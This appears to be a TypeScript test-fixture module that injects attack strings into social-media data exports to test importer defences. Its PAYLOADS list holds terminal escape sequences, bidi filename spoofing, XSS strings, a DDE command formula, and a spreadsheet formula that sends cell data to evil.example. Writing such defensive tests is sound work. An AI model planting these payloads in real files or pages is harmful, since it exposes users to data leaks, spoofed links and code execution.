import { parse } from 'csv-parse/sync';
import type { FileMap } from '../samples/file-map.js';
import { csv } from '../samples/linkedin.js';

/**
 * What an attacker puts in the strings of an export (a post, a name, a message they sent, a link they shared):
 * terminal control sequences, spreadsheet formulas, script links. Used by the hostile-export tests and the fuzzer.
 */
export const PAYLOADS = {
  clearScreen: '\u001b[2J\u001b[H',
  windowTitle: '\u001b]0;owned\u0007',
  forgedLink: '\u001b]8;;https://evil.example/\u001b\\click here\u001b]8;;\u001b\\',
  c1Csi: '\u009b2J\u009d0;owned\u009c',
  bidiOverride: 'invoice\u202egpj.exe',
  bidiIsolate: '\u2067hidden\u2069',
  backspaces: 'fine\b\b\b\bbad',
  carriageReturn: 'harmless\rOVERWRITTEN',
  bell: 'ding\u0007\u0007',
  formula: '=HYPERLINK("https://evil.example/?leak="&A1,"open")',
  tabFormula: '\t=1+1',
  crFormula: '\r=1+1',
  quotedFormula: '"=1+1',
  spacedFormula: '  @SUM(1,2)',
  plusFormula: "+cmd|' /C calc'!A0",
  minusFormula: '-2+3',
  scriptLink: 'javascript:alert(document.cookie)',
  dataLink: 'data:text/html,<script>alert(1)</script>',
  markup: '<img src=x onerror=alert(1)><a href="javascript:alert(1)">x</a>',
} as const;

/** Every payload at once, for fixtures that should trip every defence in one run. */
export const ALL_PAYLOADS = Object.values(PAYLOADS).join(' ');

/** Keeps the meaning of an export's structure: dates, times, ids, numbers, paths and URLs stay untouched. */
function isProse(value: string): boolean {
  if (!/\p{L}/u.test(value)) return false;
  if (/\d{1,2}:\d{2}/.test(value) || /^\d{4}-\d{2}-\d{2}/.test(value) || /^\d{1,2} \w{3} \d{4}$/.test(value))
    return false;
  if (/^(https?:|www\.)/i.test(value) || /^[\w-]+(\/[\w.-]+)+$/.test(value) || /^[\w-]+\.\w{2,4}$/.test(value))
    return false;
  if (/^(INCOMING|OUTGOING|INBOX|SENT|Yes|No|true|false|en|und)$/i.test(value)) return false;
  return true;
}

export type Poison = (text: string, where: string) => string;

function poisonValue(value: unknown, poison: Poison, where: string): unknown {
  if (typeof value === 'string') return isProse(value) ? poison(value, where) : value;
  if (Array.isArray(value)) return value.map((entry) => poisonValue(entry, poison, where));
  if (value && typeof value === 'object') {
    return Object.fromEntries(
      Object.entries(value).map(([key, entry]) => [
        key,
        /(^|_)id(_str)?$|Id$|^(uri|timestamp|created_at|expandedUrl|url)$/i.test(key)
          ? entry
          : poisonValue(entry, poison, `${where}.${key}`),
      ]),
    );
  }
  return value;
}

function poisonJson(text: string, poison: Poison, where: string): string | null {
  // X's files are `window.YTD.name.partN = [ … ]`; Meta's are plain JSON.
  const assignment = /^\s*window\.[\w.]+\s*=\s*/.exec(text);
  const prefix = assignment?.[0] ?? '';
  try {
    return prefix + JSON.stringify(poisonValue(JSON.parse(text.slice(prefix.length)), poison, where), null, 2);
  } catch {
    return null;
  }
}

function poisonCsv(text: string, poison: Poison, where: string): string {
  const bom = text.startsWith('\uFEFF') ? '\uFEFF' : '';
  const rows = parse(text.slice(bom.length), { relax_column_count: true, relax_quotes: true }) as string[][];
  const eol = text.includes('\r\n') ? '\r\n' : '\n';
  // Rows before the header (LinkedIn's "Notes:" preamble) and the header itself stay as they are.
  const header = rows.findIndex((row) => row.length > 2);
  const poisoned = rows.map((row, index) =>
    index <= header
      ? row
      : row.map((cell, column) => (isProse(cell) ? poison(cell, `${where}:${index}:${column}`) : cell)),
  );
  return bom + csv(poisoned[0] ?? [], poisoned.slice(1), eol);
}

/**
 * The export with `poison` applied to every prose string (posts, names, messages, titles) in its JSON, X `.js`
 * and CSV files; the structure (dates, ids, URLs, paths) is kept so the importers still read it.
 */
export function poisonExport(files: FileMap, poison: Poison): FileMap {
  const out: FileMap = {};
  for (const [path, content] of Object.entries(files)) {
    const text = typeof content === 'string' ? content : null;
    if (text !== null && /\.(js|json)$/i.test(path)) out[path] = poisonJson(text, poison, path) ?? text;
    else if (text !== null && /\.csv$/i.test(path)) out[path] = poisonCsv(text, poison, path);
    else out[path] = content;
  }
  return out;
}
